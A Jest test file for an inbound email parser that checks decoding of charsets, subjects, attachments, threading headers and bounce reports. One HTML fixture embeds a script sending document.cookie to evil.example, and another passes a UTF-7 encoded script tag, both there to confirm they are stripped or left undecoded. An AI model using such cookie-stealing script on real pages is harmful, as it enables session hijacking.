import { parseInboundMail } from './parse-inbound-mail';

const CRLF = '\r\n';
const eml = (...lines: string[]) => Buffer.from(lines.join(CRLF), 'utf8');

const HEADERS = [
  'From: "Jane Head" <head@brookside.example>',
  'To: complaints@county.example',
  'Date: Tue, 3 Mar 2026 10:01:00 +0000',
  'Message-ID: <reply-1@brookside.example>',
  'MIME-Version: 1.0',
];

describe('parseInboundMail', () => {
  it('reads a plain text message: who, what, when, and its own id', async () => {
    const message = await parseInboundMail(
      eml(
        ...HEADERS,
        'Subject: Invoice for supply cover',
        'Content-Type: text/plain; charset=utf-8',
        '',
        'Dear Sir or Madam,',
        '',
        'We were invoiced twice for the same week.',
        '',
      ),
    );
    expect(message).toMatchObject({
      messageId: '<reply-1@brookside.example>',
      threadIds: [],
      from: { name: 'Jane Head', email: 'head@brookside.example' },
      subject: 'Invoice for supply cover',
      sentAt: '2026-03-03T10:01:00.000Z',
      text: 'Dear Sir or Madam,\n\nWe were invoiced twice for the same week.',
      files: [],
      contentType: 'text/plain',
      reportType: null,
    });
    expect(message.headers.get('message-id')).toBe('<reply-1@brookside.example>');
  });

  it('names a sender who gave no display name by their address', async () => {
    const message = await parseInboundMail(
      eml('From: office@brookside.example', 'Subject: Hello', '', 'Hello'),
    );
    expect(message.from).toEqual({
      name: 'office@brookside.example',
      email: 'office@brookside.example',
    });
  });

  it('reduces an HTML-only message to text: no markup, no script or style, entities decoded', async () => {
    const message = await parseInboundMail(
      eml(
        ...HEADERS,
        'Subject: Catering',
        'Content-Type: text/html; charset=utf-8',
        '',
        '<html><head><title>Ignored title</title>',
        '<style>p { color: red; } .secret { display: none }</style>',
        '<script>document.location = "https://evil.example/?" + document.cookie;</script>',
        '</head><body>',
        '<p>Fish &amp; chips cost &pound;5 &ndash; <b>not</b> &lt;&#163;4&gt; as agreed.</p>',
        '<script type="text/javascript">alert("second")</script>',
        '<p>Regards,<br>Jane</p>',
        '</body></html>',
      ),
    );
    expect(message.text).toContain('Fish & chips cost £5 – not <£4> as agreed.');
    expect(message.text).toContain('Regards,\nJane');
    expect(message.text).not.toMatch(/document|alert|color|Ignored title|<b>|<\/?p>|<br>|&amp;/);
  });

  it('keeps an HTML paragraph on one line, as the page wraps it, and leaves images out', async () => {
    const paragraph =
      'The music tutor cancelled two lessons in a row, each on the morning itself, and nobody told the parents before they had paid for the term.';
    const message = await parseInboundMail(
      eml(
        ...HEADERS,
        'Subject: Music lessons',
        'Content-Type: text/html; charset=utf-8',
        '',
        `<p>${paragraph}</p>`,
        '<p><img src="https://tracker.example/x.gif" width="1" height="1" alt=""><img src="cid:logo" alt="Brookside logo"></p>',
        '<p>See <a href="https://brookside.example/timetable">the timetable</a>.</p>',
      ),
    );
    expect(message.text).toContain(paragraph);
    expect(message.text).not.toMatch(/tracker|x\.gif|cid:|logo/);
    // A link's address is the school's to give.
    expect(message.text).toContain('the timetable [https://brookside.example/timetable]');
  });

  it('keeps the words of an HTML part beside a plain one in a mixed message', async () => {
    const message = await parseInboundMail(
      eml(
        ...HEADERS,
        'Subject: Two parts',
        'Content-Type: multipart/mixed; boundary="m"',
        '',
        '--m',
        'Content-Type: text/plain; charset=utf-8',
        '',
        'First part in plain text.',
        '--m',
        'Content-Type: text/html; charset=utf-8',
        '',
        '<p>Second part: the tutor never came.</p>',
        '--m--',
      ),
    );
    expect(message.text).toContain('First part in plain text.');
    expect(message.text).toContain('Second part: the tutor never came.');
  });

  it('takes the text part of a multipart/alternative message, not the HTML', async () => {
    const message = await parseInboundMail(
      eml(
        ...HEADERS,
        'Subject: Alternative',
        'Content-Type: multipart/alternative; boundary="alt"',
        '',
        '--alt',
        'Content-Type: text/plain; charset=utf-8',
        '',
        'The plain words.',
        '--alt',
        'Content-Type: text/html; charset=utf-8',
        '',
        '<p>The <i>HTML</i> words.</p>',
        '--alt--',
        '',
      ),
    );
    expect(message.text).toBe('The plain words.');
    expect(message.contentType).toBe('multipart/alternative');
  });

  it('decodes quoted-printable UTF-8 with a soft line break, £ and –', async () => {
    const message = await parseInboundMail(
      eml(
        ...HEADERS,
        'Subject: Refund',
        'Content-Type: text/plain; charset="utf-8"',
        'Content-Transfer-Encoding: quoted-printable',
        '',
        'We were charged =C2=A3120 =E2=80=93 twice =E2=80=93 for one visit, and this line is =',
        'long enough to be wrapped.',
      ),
    );
    expect(message.text).toBe(
      'We were charged £120 – twice – for one visit, and this line is long enough to be wrapped.',
    );
  });

  it('decodes quoted-printable windows-1252, as Outlook sends it', async () => {
    const message = await parseInboundMail(
      eml(
        ...HEADERS,
        'Subject: Refund',
        'Content-Type: text/plain; charset="Windows-1252"',
        'Content-Transfer-Encoding: quoted-printable',
        '',
        'Total =A3120 =96 please refund =93promptly=94.',
      ),
    );
    expect(message.text).toBe('Total £120 – please refund “promptly”.');
  });

  it('reads a body in a charset nobody knows as UTF-8 when it is, else as Windows-1252', async () => {
    const unknown = (charset: string, body: string) =>
      parseInboundMail(
        eml(
          ...HEADERS,
          'Subject: Refund',
          `Content-Type: text/plain; charset=${charset}`,
          'Content-Transfer-Encoding: quoted-printable',
          '',
          body,
        ),
      );
    expect((await unknown('unknown-8bit', 'Total =A3120 =96 refund =93promptly=94.')).text).toBe(
      'Total £120 – refund “promptly”.',
    );
    expect((await unknown('x-user-defined', 'Caf=C3=A9 =E2=80=93 closed')).text).toBe(
      'Café – closed',
    );
    // A charset libmime knows is decoded as it says, Japanese too.
    expect((await unknown('iso-2022-jp', '=1B$B$3$s$K$A$O=1B(B')).text).toBe('こんにちは');
    // UTF-7 is never decoded from: its "+ADw-" would become "<".
    expect((await unknown('utf-7', '+ADw-script+AD4-')).text).toBe('+ADw-script+AD4-');
  });

  it('decodes RFC 2047 subjects, including encoded words split across a folded line', async () => {
    const utf8 = await parseInboundMail(
      eml(
        'From: head@brookside.example',
        'Subject: =?UTF-8?Q?Re:_Your_complaint_SG-2026-000123_=E2=80=93_?=',
        ' =?UTF-8?B?wqMxMjAgcmVmdW5k?=',
        '',
        'Body',
      ),
    );
    expect(utf8.subject).toBe('Re: Your complaint SG-2026-000123 – £120 refund');

    const latin1 = await parseInboundMail(
      eml('From: head@brookside.example', 'Subject: =?ISO-8859-1?Q?Caf=E9_invoice_=A3?=', '', 'x'),
    );
    expect(latin1.subject).toBe('Café invoice £');
  });

  it('keeps a subject as one line of words: no control characters, no longer than 1,000', async () => {
    const nul = await parseInboundMail(
      eml('From: head@brookside.example', 'Subject: =?UTF-8?B?SW52b2ljZQBhAXRlc3Q=?=', '', 'x'),
    );
    expect(nul.subject).toBe('Invoice a test');
    const long = await parseInboundMail(
      eml('From: head@brookside.example', `Subject: ${'word '.repeat(20_000)}`, '', 'x'),
    );
    expect(long.subject).toHaveLength(1_000);
    expect(long.subject.endsWith('…')).toBe(true);
  });

  it('keeps an attached file with its name and bytes, and flags a signature image as inline', async () => {
    const pdf = Buffer.from('%PDF-1.4\n% a small but real-looking PDF\n');
    const png = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex');
    const message = await parseInboundMail(
      eml(
        ...HEADERS,
        'Subject: Invoice attached',
        'Content-Type: multipart/mixed; boundary="mixed"',
        '',
        '--mixed',
        'Content-Type: multipart/related; boundary="related"',
        '',
        '--related',
        'Content-Type: multipart/alternative; boundary="alt"',
        '',
        '--alt',
        'Content-Type: text/plain; charset=utf-8',
        '',
        'Please see the invoice.',
        '--alt',
        'Content-Type: text/html; charset=utf-8',
        '',
        '<p>Please see the invoice.</p><p>Jane Head<br><img src="cid:logo@brookside"></p>',
        '--alt--',
        '',
        '--related',
        'Content-Type: image/png; name="image001.png"',
        'Content-Disposition: inline; filename="image001.png"',
        'Content-ID: <logo@brookside>',
        'Content-Transfer-Encoding: base64',
        '',
        png.toString('base64'),
        '--related--',
        '',
        '--mixed',
        'Content-Type: application/pdf; name="Invoice 3 March.pdf"',
        'Content-Disposition: attachment; filename="Invoice 3 March.pdf"',
        'Content-Transfer-Encoding: base64',
        '',
        pdf.toString('base64'),
        '--mixed',
        'Content-Type: application/octet-stream',
        "Content-Disposition: attachment; filename*=UTF-8''R%C3%A9sum%C3%A9%20%C2%A3.txt",
        'Content-Transfer-Encoding: base64',
        '',
        Buffer.from('notes').toString('base64'),
        '--mixed--',
        '',
      ),
    );
    expect(message.text).toContain('Please see the invoice.');
    const files = message.files.map((file) => ({
      name: file.name,
      inline: file.inline,
      bytes: file.bytes.toString('hex'),
    }));
    expect(files).toEqual(
      expect.arrayContaining([
        { name: 'image001.png', inline: true, bytes: png.toString('hex') },
        { name: 'Invoice 3 March.pdf', inline: false, bytes: pdf.toString('hex') },
        { name: 'Résumé £.txt', inline: false, bytes: Buffer.from('notes').toString('hex') },
      ]),
    );
    expect(files).toHaveLength(3);
  });

  it('reduces HTML to text when it is the only body, beside a signature image', async () => {
    // Outlook and many web clients send no text part: multipart/related of the HTML and its images.
    const message = await parseInboundMail(
      eml(
        ...HEADERS,
        'Subject: HTML and a logo',
        'Content-Type: multipart/related; boundary="related"',
        '',
        '--related',
        'Content-Type: text/html; charset=utf-8',
        '',
        '<p>The invoice was paid on 3&nbsp;March.</p><p>Jane Head<br><img src="cid:logo@brookside"></p>',
        '--related',
        'Content-Type: image/png; name="image001.png"',
        'Content-Disposition: inline; filename="image001.png"',
        'Content-ID: <logo@brookside>',
        'Content-Transfer-Encoding: base64',
        '',
        Buffer.from('89504e47', 'hex').toString('base64'),
        '--related--',
        '',
      ),
    );
    expect(message.text).toMatch(/^The invoice was paid on 3\sMarch\./);
    expect(message.text).toContain('Jane Head');
    expect(message.text).not.toContain('<p>');
    expect(message.files.map((file) => [file.name, file.inline])).toEqual([['image001.png', true]]);
  });

  it('reduces HTML to text when it is the only body of a message with an attachment', async () => {
    const message = await parseInboundMail(
      eml(
        ...HEADERS,
        'Subject: HTML and a file',
        'Content-Type: multipart/mixed; boundary="mixed"',
        '',
        '--mixed',
        'Content-Type: text/html; charset=utf-8',
        '',
        '<div>Our <b>signed</b> letter is attached.</div>',
        '--mixed',
        'Content-Type: application/pdf; name="Letter.pdf"',
        'Content-Disposition: attachment; filename="Letter.pdf"',
        'Content-Transfer-Encoding: base64',
        '',
        Buffer.from('%PDF-1.7\n').toString('base64'),
        '--mixed--',
        '',
      ),
    );
    expect(message.text).toBe('Our signed letter is attached.');
  });

  it('does not take a PDF Apple Mail attaches with Content-Disposition inline for a signature image', async () => {
    // Apple Mail marks every file it can preview as inline, in multipart/mixed, with no Content-ID.
    const message = await parseInboundMail(
      eml(
        ...HEADERS,
        'Subject: Signed letter',
        'Content-Type: multipart/mixed; boundary="Apple-Mail=_1"',
        '',
        '--Apple-Mail=_1',
        'Content-Type: text/plain; charset=us-ascii',
        '',
        'The signed letter is attached.',
        '--Apple-Mail=_1',
        'Content-Type: application/pdf; name="Signed letter.pdf"',
        'Content-Disposition: inline; filename="Signed letter.pdf"',
        'Content-Transfer-Encoding: base64',
        '',
        Buffer.from('%PDF-1.7\n').toString('base64'),
        '--Apple-Mail=_1--',
        '',
      ),
    );
    expect(message.files.map((file) => [file.name, file.inline])).toEqual([
      ['Signed letter.pdf', false],
    ]);
  });

  /** A part of a multipart body with boundary `boundary`: a file of that type, in base64. */
  const attached = (boundary: string, type: string, name: string, content: string) => [
    `--${boundary}`,
    `Content-Type: ${type}; name="${name}"`,
    `Content-Disposition: attachment; filename="${name}"`,
    'Content-Transfer-Encoding: base64',
    '',
    Buffer.from(content).toString('base64'),
  ];

  it('takes an S/MIME signature and a vCard for part of the mail, not files the school attached', async () => {
    const message = await parseInboundMail(
      eml(
        ...HEADERS,
        'Subject: Signed',
        'Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256; boundary="s1"',
        '',
        '--s1',
        'Content-Type: multipart/mixed; boundary="m1"',
        '',
        '--m1',
        'Content-Type: text/plain; charset=us-ascii',
        '',
        'Resolved, thank you.',
        '--m1',
        'Content-Type: text/vcard; name="contact.vcf"',
        'Content-Disposition: attachment; filename="contact.vcf"',
        '',
        'BEGIN:VCARD',
        'FN:Jane Head',
        'END:VCARD',
        ...attached('m1', 'application/pdf', 'Letter.pdf', '%PDF-1.7\n'),
        '--m1--',
        ...attached('s1', 'application/pkcs7-signature', 'smime.p7s', 'not really a signature'),
        '--s1--',
        '',
      ),
    );
    expect(message.text).toBe('Resolved, thank you.');
    expect(message.files.map((file) => [file.name, file.inline])).toEqual([
      ['contact.vcf', true],
      ['Letter.pdf', false],
      ['smime.p7s', true],
    ]);
  });

  it('gives no id, no sender and no date when the message has none, and still parses', async () => {
    const message = await parseInboundMail(
      eml('To: complaints@county.example', 'Subject: Anonymous', '', 'Who am I?'),
    );
    expect(message.messageId).toBeNull();
    expect(message.from).toBeNull();
    expect(message.sentAt).toBeNull();
    expect(message.text).toBe('Who am I?');
  });

  it('gives no sender for a From that is an empty group', async () => {
    const message = await parseInboundMail(
      eml('From: undisclosed-recipients:;', 'Subject: x', '', 'x'),
    );
    expect(message.from).toBeNull();
  });

  it('gives no sent time for a Date it cannot read, rather than inventing one', async () => {
    const message = await parseInboundMail(
      eml(
        'From: head@brookside.example',
        'Date: Tuesday the third of March, mid-morning',
        'Subject: x',
        '',
        'x',
      ),
    );
    expect(message.sentAt).toBeNull();
  });

  it('reads a Date in another zone as the same instant', async () => {
    const message = await parseInboundMail(
      eml('From: head@brookside.example', 'Date: Wed, 1 Jul 2026 09:30:00 +0100', '', 'x'),
    );
    expect(message.sentAt).toBe('2026-07-01T08:30:00.000Z');
  });

  it('lists In-Reply-To first, then References from newest to oldest', async () => {
    const message = await parseInboundMail(
      eml(
        'From: head@brookside.example',
        'Subject: Re: x',
        'In-Reply-To: <third@county.example>',
        'References: <first@county.example>',
        ' <second@county.example>',
        '\t<third@county.example>',
        '',
        'x',
      ),
    );
    expect(message.threadIds[0]).toBe('<third@county.example>');
    expect([...new Set(message.threadIds)]).toEqual([
      '<third@county.example>',
      '<second@county.example>',
      '<first@county.example>',
    ]);
  });

  it('reads a single Reference as one id', async () => {
    const message = await parseInboundMail(
      eml('From: head@brookside.example', 'References: <only@county.example>', '', 'x'),
    );
    expect(message.threadIds).toEqual(['<only@county.example>']);
  });

  // RFC 5322's obsolete syntax, still written by some clients: a phrase or a comment with the id.
  it('takes only the message id from an In-Reply-To with a comment after it', async () => {
    const withComment = await parseInboundMail(
      eml(
        'From: head@brookside.example',
        "In-Reply-To: <c1@county.example> (Service Guarantee's message of 3 Mar)",
        '',
        'x',
      ),
    );
    expect(withComment.threadIds).toEqual(['<c1@county.example>']);
  });

  it('takes only the message id from an In-Reply-To that puts a phrase before it', async () => {
    const withPhrase = await parseInboundMail(
      eml(
        'From: head@brookside.example',
        'In-Reply-To: Your message of "Tue, 3 Mar 2026" <c2@county.example>',
        '',
        'x',
      ),
    );
    expect(withPhrase.threadIds).toEqual(['<c2@county.example>']);
  });

  it('reads a message whose lines end in a bare LF', async () => {
    const raw = Buffer.from(
      [
        'From: "Jane Head" <head@brookside.example>',
        'Subject: Unix line ends',
        'Date: Tue, 3 Mar 2026 10:01:00 +0000',
        'Content-Type: text/plain; charset=utf-8',
        '',
        'Line one',
        'Line two',
        '',
      ].join('\n'),
    );
    const message = await parseInboundMail(raw);
    expect(message.subject).toBe('Unix line ends');
    expect(message.from?.email).toBe('head@brookside.example');
    expect(message.sentAt).toBe('2026-03-03T10:01:00.000Z');
    expect(message.text).toBe('Line one\nLine two');
  });

  it('survives undeclared 8-bit bytes in headers and body', async () => {
    const raw = Buffer.concat([
      Buffer.from('From: head@brookside.example\r\nSubject: Caf', 'latin1'),
      Buffer.from([0xe9, 0xff, 0xfe]),
      Buffer.from('\r\n\r\nna', 'latin1'),
      Buffer.from([0xef, 0x80, 0x81, 0xc3]),
      Buffer.from('ve line\r\n', 'latin1'),
    ]);
    const message = await parseInboundMail(raw);
    expect(message.from?.email).toBe('head@brookside.example');
    expect(message.subject).toMatch(/^Caf/);
    expect(message.text).toMatch(/^na.*ve line$/);
  });

  /** A Postfix delivery report of the message `returnedId`, with `fields` for its recipient. */
  const deliveryReport = (
    fields: string[],
    enclosure: string[] = [
      'Content-Description: Undelivered Message Headers',
      'Content-Type: text/rfc822-headers',
      '',
      'From: Service Guarantee <complaints@county.example>',
      'Subject: Your complaint SG-2026-000123',
      'Message-ID: <complaint-1@county.example>',
    ],
    extraHeaders: string[] = [],
  ) =>
    eml(
      'Return-Path: <>',
      'From: MAILER-DAEMON@mx.brookside.example (Mail Delivery System)',
      'To: complaints@county.example',
      'Subject: Undelivered Mail Returned to Sender',
      'Date: Tue, 3 Mar 2026 10:02:00 +0000',
      'Auto-Submitted: auto-replied',
      ...extraHeaders,
      'MIME-Version: 1.0',
      'Content-Type: multipart/report; report-type=delivery-status;',
      '\tboundary="B8C2A1E0.1772532120/mx.brookside.example"',
      '',
      '--B8C2A1E0.1772532120/mx.brookside.example',
      'Content-Description: Notification',
      'Content-Type: text/plain; charset=us-ascii',
      '',
      'This is the mail system at host mx.brookside.example.',
      '',
      "I'm sorry to have to inform you that your message could not",
      'be delivered to one or more recipients.',
      '',
      '<bursar@brookside.example>: host mx.brookside.example said: 550 5.1.1',
      '    <bursar@brookside.example>: Recipient address rejected: User unknown',
      '',
      '--B8C2A1E0.1772532120/mx.brookside.example',
      'Content-Description: Delivery report',
      'Content-Type: message/delivery-status',
      '',
      'Reporting-MTA: dns; mx.brookside.example',
      'Arrival-Date: Tue,  3 Mar 2026 10:01:59 +0000 (GMT)',
      '',
      'Final-Recipient: rfc822; bursar@brookside.example',
      ...fields,
      '',
      '--B8C2A1E0.1772532120/mx.brookside.example',
      ...enclosure,
      '',
      '--B8C2A1E0.1772532120/mx.brookside.example--',
      '',
    );

  it('reads a delivery-status report as multipart/report of type delivery-status, and what it returns', async () => {
    const message = await parseInboundMail(deliveryReport(['Action: failed', 'Status: 5.1.1']));
    expect(message.contentType).toBe('multipart/report');
    expect(message.reportType).toBe('delivery-status');
    expect(message.from?.email).toBe('MAILER-DAEMON@mx.brookside.example');
    expect(message.text).toContain('could not');
    expect(message.returned).toEqual({
      messageIds: ['<complaint-1@county.example>'],
      failed: true,
      status: '5.1.1',
    });
  });

  it('tells a delay from a failure: a server still trying has not given up', async () => {
    const message = await parseInboundMail(
      deliveryReport(['Action: delayed', 'Status: 4.4.1', 'Will-Retry-Until: Fri, 6 Mar 2026']),
    );
    expect(message.returned).toEqual({
      messageIds: ['<complaint-1@county.example>'],
      failed: false,
      status: null,
    });
  });

  it('finds the returned message enclosed whole, folded Message-ID and all, and the id the report answers', async () => {
    const message = await parseInboundMail(
      deliveryReport(
        ['Action: failed', 'Status: 5.2.2'],
        [
          'Content-Type: message/rfc822',
          '',
          'From: Service Guarantee <complaints@county.example>',
          'Subject: Your complaint SG-2026-000123',
          'Message-ID:',
          ' <complaint-2@county.example>',
          'Content-Type: text/plain',
          '',
          'Dear Bea Bursar,',
          'Message-ID: <not-a-header@county.example>',
        ],
        ['In-Reply-To: <complaint-2@county.example>', 'References: <complaint-0@county.example>'],
      ),
    );
    expect(message.returned).toEqual({
      messageIds: ['<complaint-2@county.example>', '<complaint-0@county.example>'],
      failed: true,
      status: '5.2.2',
    });
  });

  it('reads no returned message into a message that is not a delivery report', async () => {
    const message = await parseInboundMail(
      eml(
        ...HEADERS,
        '',
        'Action: failed',
        'Status: 5.1.1',
        'Message-ID: <complaint-1@county.example>',
      ),
    );
    expect(message.returned).toBeNull();
  });

  it('keeps header values by lower-case name, including lists and repeated headers', async () => {
    const message = await parseInboundMail(
      eml(
        'From: head@brookside.example',
        'Auto-Submitted: Auto-Replied',
        'X-Autoreply: yes',
        'Precedence: bulk',
        'List-Id: Brookside parents <parents.brookside.example>',
        'Received: from a.example by b.example; Tue, 3 Mar 2026 10:01:00 +0000',
        'Received: from c.example by a.example; Tue, 3 Mar 2026 10:00:00 +0000',
        '',
        'x',
      ),
    );
    expect(message.headers.get('auto-submitted')).toBe('Auto-Replied');
    expect(message.headers.get('x-autoreply')).toBe('yes');
    expect(message.headers.get('precedence')).toBe('bulk');
    expect(message.headers.get('received')).toContain('from a.example by b.example');
    expect(message.headers.get('received')).toContain('from c.example by a.example');
    expect(message.headers.get('list-id')).toContain('<parents.brookside.example>');
  });

  it('takes a message with no subject, no body and no files', async () => {
    const message = await parseInboundMail(eml('From: head@brookside.example', '', ''));
    expect(message.subject).toBe('');
    expect(message.text).toBe('');
    expect(message.files).toEqual([]);
    expect(message.contentType).toBe('text/plain');
  });
});
